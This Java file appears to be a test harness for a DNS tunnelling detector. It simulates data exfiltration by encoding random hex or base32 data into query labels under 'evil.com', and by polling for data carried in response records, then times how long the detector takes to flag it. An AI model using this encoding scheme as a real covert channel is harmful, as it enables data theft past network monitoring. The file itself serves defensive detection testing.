package dev.bailiwick.detect;

import dev.bailiwick.wire.Rcode;
import java.util.List;
import java.util.Random;

/// Somebody who moves data through names or records at a steady speed, on a clock of the test's.
final class Exfiltration {
    static final String HEX = "0123456789abcdef";
    static final String BASE32 = "abcdefghijklmnopqrstuvwxyz234567";

    /// Octets of a label at most, so that names with data have a few.
    private static final int LABEL = 57;

    private static final int MOST_QUERIES = 1_000_000;

    private final Random random;
    private final TunnelDetector detector;

    Exfiltration(int seed) {
        random = new Random(seed);
        detector = new TunnelDetector(TunnelSettings.DEFAULT, PublicSuffixes.builtIn(), random);
    }

    String data(String alphabet, int octets) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < octets; i++) {
            if (i % LABEL == 0 && i > 0) {
                text.append('.');
            }
            text.append(alphabet.charAt(random.nextInt(alphabet.length())));
        }
        return text.toString();
    }

    byte[] record(int octets) {
        byte[] record = new byte[octets];
        random.nextBytes(record);
        record[0] = 1;
        return record;
    }

    /// Data in names.
    ///
    /// @param perSecond octets of data, before they are written in letters
    /// @param labelOctets letters in a name
    /// @return seconds until it is found, or infinity when that takes longer than a number of hours
    double up(double perSecond, int labelOctets, String alphabet, int type, int rcode, int hours) {
        double bitsPerOctet = Math.log(alphabet.length()) / Math.log(2);
        double gap = labelOctets * bitsPerOctet / Byte.SIZE / perSecond;
        Channel channel = new Channel(detector, random.nextInt());
        long start = random.nextInt(1_000_000) * Channel.SECOND;
        for (int i = 0; i < MOST_QUERIES && i * gap < hours * 3600; i++) {
            long nanos = start + (long) (i * gap * Channel.SECOND);
            if (channel.ask(data(alphabet, labelOctets) + ".evil.com", type, rcode, nanos)) {
                return i * gap;
            }
        }
        return Double.POSITIVE_INFINITY;
    }

    /// Data in records.
    ///
    /// @param octets of data in a record
    /// @param isSameName whether one name is asked for again and again
    /// @return as of [#up]
    double down(double perSecond, int octets, boolean isSameName, int type, int hours) {
        double gap = octets / perSecond;
        Channel channel = new Channel(detector, random.nextInt());
        for (int i = 0; i < MOST_QUERIES && i * gap < hours * 3600; i++) {
            String name = (isSameName ? "poll" : data(BASE32, 12)) + ".evil.com";
            long nanos = (long) (i * gap * Channel.SECOND);
            if (channel.ask(name, type, Rcode.NOERROR, List.of(record(octets)), nanos)) {
                return i * gap;
            }
        }
        return Double.POSITIVE_INFINITY;
    }
}
